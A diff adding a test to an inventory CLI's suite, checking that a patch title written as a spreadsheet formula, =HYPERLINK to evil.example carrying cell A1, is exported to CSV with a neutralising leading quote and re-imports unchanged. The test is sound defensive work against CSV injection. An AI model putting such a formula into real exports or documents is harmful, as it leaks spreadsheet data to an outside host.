@@ -45,6 +45,18 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
     expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toBe(`${join(dir, 'patches.csv')}: patches: 0 added, 0 updated, 5 unchanged (nothing changed)\n`);
   });
 
+  it('exports a title a spreadsheet would run as a formula with a leading quote, and the export imports as nothing changed', async () => {
+    await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps());
+    const hostile = `${readFileSync(EXAMPLE, 'utf8').replace(/^patches:\n/m, 'patches:\n  - system: mail-gw-1\n    title: \'=HYPERLINK("http://evil.example/?x="&A1,"Fix")\'\n    severity: low\n    released: 2026-11-01\n  - system: mail-gw-1\n    title: "-5"\n    severity: low\n    released: 2026-11-02\n')}`;
+    writeFileSync(join(dir, 'hostile.yaml'), hostile);
+    expect(await runInventoryImport({ file: join(dir, 'hostile.yaml'), actor: 'alice' }, deps())).toMatch(/patches: 2 added/);
+    const csv = await runInventoryExport({ format: 'csv', kind: 'patches' }, { store });
+    expect(csv).toContain(`mail-gw-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Fix"")",,low,2026-11-01,`);
+    expect(csv).toContain('mail-gw-1,-5,,low,2026-11-02,');
+    writeFileSync(join(dir, 'patches.csv'), csv);
+    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toMatch(/patches: 0 added, 0 updated, \d+ unchanged \(nothing changed\)\n$/);
+  });
+
   it('refuses bad input with a specific message and writes nothing', async () => {
     await expect(runInventoryImport({ file: join(dir, 'inventory.txt'), actor: 'a' }, deps())).rejects.toThrow('use --format yaml or --format csv');
     await expect(runInventoryImport({ file: join(dir, 'missing.yaml'), actor: 'a' }, deps())).rejects.toThrow(/cannot read .*missing.yaml: ENOENT/);
